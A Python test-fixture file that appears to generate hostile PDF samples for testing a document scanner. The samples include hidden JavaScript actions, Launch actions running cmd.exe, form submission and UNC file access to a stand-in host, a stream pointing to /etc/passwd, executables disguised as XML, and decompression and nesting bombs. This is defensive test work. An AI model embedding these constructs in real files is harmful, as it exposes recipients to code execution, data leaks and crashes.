"""PDFs that act by themselves, carry files, lead nowhere or swell."""

from functools import partial

from tests.documents import parts
from tests.documents.hostile.cases import cases
from tests.documents.parts import a_pdf, zeros


def raw(**what):
    return partial(parts.raw_pdf, **what)


def pdf_scripts():
    js = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
    spelt_out = "<< /S /J#61vaScript /#4a#53 (app.alert\\(1\\)) >>"
    yield from cases(
        "a PDF with a script",
        "pdf_script",
        ("when it opens", "acta.pdf", raw(root=f"/OpenAction {js}")),
        ("by its name", "acta.pdf", raw(root=f"/Names << /JavaScript << /Names [(a) {js}] >> >>")),
        ("when a page is shown", "acta.pdf", raw(page=f"/AA << /O {js} >>"), "pdf_script", "pdf_acts"),
        ("when a note is pressed", "acta.pdf", raw(page=f"/Annots [<< /Subtype /Link /A {js} >>]")),
        (
            "in a field",
            "acta.pdf",
            raw(others=[f"<< /FT /Tx /AA << /C {js} >> >>"]),
            "pdf_script",
            "pdf_acts",
        ),
        ("in a bookmark", "acta.pdf", raw(others=[f"<< /Title (x) /A {js} >>"])),
        (
            "after another action",
            "acta.pdf",
            raw(root=f"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next {js} >>"),
        ),
        ("under a name that is spelt out", "acta.pdf", raw(root=f"/OpenAction {spelt_out}")),
        (
            "in a text of its own",
            "acta.pdf",
            raw(root="/OpenAction << /S /JavaScript /JS 5 0 R >>", others=[parts.stream(b"app.alert(1)")]),
        ),
        ("packed with other objects", "acta.pdf", parts.pdf_with_packed_script),
        ("in something nobody points at", "acta.pdf", raw(others=[f"[[[{js}]]]"])),
        (
            "in a rendition",
            "acta.pdf",
            raw(page="/Annots [<< /A << /S /Rendition /JS (x) >> >>]"),
            "pdf_script",
            "pdf_acts",
        ),
    )


def pdf_acts():
    def opens(action):
        return raw(root=f"/OpenAction << {action} >>")

    def shows(note):
        return raw(page=f"/Annots [<< /Type /Annot {note} >>]")

    yield from cases(
        "a PDF that acts by itself",
        "pdf_acts",
        ("a program", "acta.pdf", opens("/S /Launch /F (cmd.exe)")),
        ("a program of Windows", "acta.pdf", opens("/S /Launch /Win << /F (cmd.exe) /P (/c calc) >>")),
        ("a program, once pressed", "acta.pdf", shows("/Subtype /Link /A << /S /Launch /F (a.exe) >>")),
        ("an address, when it opens", "acta.pdf", opens("/S /URI /URI (http://malo.example/)")),
        (
            "a file of another machine",
            "acta.pdf",
            opens("/S /GoToR /F (\\\\\\\\malo.example\\\\a) /D [0 /Fit]"),
        ),
        (
            "another machine, on a page",
            "acta.pdf",
            raw(page="/AA << /O << /S /GoToR /F (x) /D [0 /Fit] >> >>"),
        ),
        ("a document inside", "acta.pdf", opens("/S /GoToE /T << /R /C /N (a.pdf) >>")),
        ("data from elsewhere", "acta.pdf", opens("/S /ImportData /F (a.fdf)")),
        (
            "data sent elsewhere",
            "acta.pdf",
            shows("/Subtype /Widget /A << /S /SubmitForm /F (http://malo.example/) >>"),
        ),
        ("Flash", "acta.pdf", shows("/Subtype /RichMedia /RichMediaContent << >>")),
        ("a film", "acta.pdf", shows("/Subtype /Movie /Movie << /F (a.avi) >>")),
        ("a sound", "acta.pdf", shows("/Subtype /Sound")),
        ("a body in three dimensions", "acta.pdf", shows("/Subtype /3D")),
        (
            "a text that lies in another file",
            "acta.pdf",
            raw(others=["<< /Length 0 /F (/etc/passwd) >>\nstream\n\nendstream"]),
        ),
    )


def pdf_attachments():
    yield from cases(
        "a PDF with files inside",
        "pdf_attachment",
        ("a program", "acta.pdf", partial(parts.pdf_with_file, "a.exe", b"MZ")),
        ("a Word", "acta.pdf", partial(parts.pdf_with_file, "a.docx", b"PK\x03\x04")),
        ("a PDF", "acta.pdf", partial(parts.pdf_with_file, "a.pdf", b"%PDF-1.4")),
        ("a ZIP", "acta.pdf", partial(parts.pdf_with_file, "a.zip", b"PK\x03\x04")),
        ("a script", "acta.pdf", partial(parts.pdf_with_file, "a.js", b"alert(1)")),
        ("a program named xml", "acta.pdf", partial(parts.pdf_with_file, "factura.xml", b"MZ")),
        (
            "a program named after an XML",
            "acta.pdf",
            partial(parts.pdf_with_file, "factura.xml.exe", b"<?xml"),
        ),
        (
            "a program under two names",
            "acta.pdf",
            partial(parts.pdf_with_file, "factura.xml", b"<?xml", "a.exe"),
        ),
        (
            "a file in a note",
            "acta.pdf",
            raw(
                page="/Annots [<< /Subtype /FileAttachment /FS << /F (a.exe) /EF << /F 5 0 R >> >> >>]",
                others=[parts.stream(b"MZ")],
            ),
        ),
        (
            "a file without a name",
            "acta.pdf",
            raw(others=["<< /EF << /F 6 0 R >> >>", parts.stream(b"<?xml")]),
        ),
    )
    yield from cases(
        "a PDF with files inside",
        "pdf_form",
        (
            "an XFA form",
            "acta.pdf",
            raw(root="/AcroForm << /Fields [] /XFA 5 0 R >>", others=[parts.stream(b"<xdp/>")]),
        ),
        (
            "an XFA form in pieces",
            "acta.pdf",
            raw(root="/AcroForm << /Fields [] /XFA [(template) 5 0 R] >>", others=[parts.stream(b"<xdp/>")]),
        ),
    )


def pdf_structures():
    yield from cases(
        "a PDF that leads nowhere",
        "pdf_damaged",
        ("only zeros", "acta.pdf", b"%PDF-1.7\n" + zeros(500)),
        ("no trailer", "acta.pdf", lambda: parts.raw_pdf().split(b"xref")[0] + b"%%EOF\n"),
        ("a table that loops", "acta.pdf", parts.pdf_with_looping_table),
        ("two tables that loop", "acta.pdf", partial(parts.pdf_with_looping_table, twice=True)),
        ("pages that contain themselves", "acta.pdf", parts.pdf_with_looping_pages),
        (
            "pages that are no pages",
            "acta.pdf",
            lambda: parts.raw_pdf().replace(b"/Kids [3 0 R]", b"/Kids [(hola)]"),
            "pdf_empty",
            "pdf_damaged",
        ),
        ("no catalogue", "acta.pdf", lambda: parts.raw_pdf().replace(b"/Root 1 0 R", b"/Root 9 0 R")),
        ("a middle that is gone", "acta.pdf", parts.pdf_without_middle),
    )
    yield from cases(
        "a PDF that leads nowhere",
        "pdf_empty",
        ("no pages", "acta.pdf", lambda: parts.raw_pdf().replace(b"/Kids [3 0 R]", b"/Kids [     ]")),
    )
    yield from cases(
        "a PDF without end",
        "pdf_damaged too_much",
        ("too many pages", "acta.pdf", partial(a_pdf, pages=3001), "pdf_too_long"),
        ("one page repeated", "acta.pdf", parts.pdf_of_one_page_repeated),
        ("a tree of a hundred levels", "acta.pdf", partial(parts.pdf_with_deep_tree, 100)),
        ("a tree of twenty thousand levels", "acta.pdf", partial(parts.pdf_with_deep_tree, 20_000)),
        ("lists inside lists", "acta.pdf", raw(root="/X " + "[" * 90_000 + "]" * 90_000)),
        (
            "dictionaries inside dictionaries",
            "acta.pdf",
            raw(root="/X " + "<</A" * 90_000 + " 1" + ">>" * 90_000),
        ),
        ("a great many objects", "acta.pdf", parts.pdf_with_many_objects),
    )


def pdf_bombs():
    yield from cases(
        "a PDF that swells",
        "pdf_swells too_much",
        ("a page", "acta.pdf", partial(parts.pdf_with_content, parts.bomb(210))),
        (
            "a page packed twice",
            "acta.pdf",
            partial(parts.pdf_with_content, parts.bomb(100, times=2), "[/FlateDecode /FlateDecode]"),
        ),
        (
            "a page packed in two ways",
            "acta.pdf",
            partial(parts.pdf_with_content, parts.bomb(1), "[/RunLengthDecode /FlateDecode]"),
        ),
        (
            "a font",
            "acta.pdf",
            raw(others=[parts.stream(parts.bomb(210), "/Filter /FlateDecode /Length1 5")]),
        ),
        (
            "many pages together",
            "acta.pdf",
            raw(others=[parts.stream(parts.bomb(42), "/Filter /FlateDecode")] * 5),
        ),
        (
            "an image of a thousand megapixels",
            "acta.pdf",
            partial(parts.pdf_with_image, 40_000, 40_000, parts.bomb(1)),
        ),
        ("an image without height", "acta.pdf", partial(parts.pdf_with_image, 400, 0, parts.bomb(1))),
        ("an image larger than it says", "acta.pdf", partial(parts.pdf_with_image, 1, 1, parts.bomb(100))),
        (
            "packed objects",
            "acta.pdf",
            parts.pdf_with_swelling_objects,
            "pdf_swells",
            "too_much",
            "pdf_damaged",
        ),
    )


KINDS = [pdf_scripts, pdf_acts, pdf_attachments, pdf_structures, pdf_bombs]
